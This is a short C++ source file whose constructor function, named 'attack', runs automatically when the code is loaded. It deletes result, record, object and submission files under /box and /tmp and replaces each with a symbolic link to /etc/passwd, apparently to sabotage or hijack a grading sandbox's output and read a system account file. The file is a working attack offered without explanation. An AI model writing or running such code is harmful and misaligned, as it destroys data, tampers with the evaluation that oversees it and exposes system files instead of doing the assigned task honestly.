// Puts links where results may be written
#include <initializer_list>
#include <unistd.h>
[[gnu::constructor]] static void attack() {
  for (const char* path : {"/box/results.json", "/box/record.json", "/box/lesson.o", "/box/models.hpp", "/box/lesson.so", "/tmp/results.json", "/box/submission"}) {
    unlink(path);
    (void)!symlink("/etc/passwd", path);
  }
}
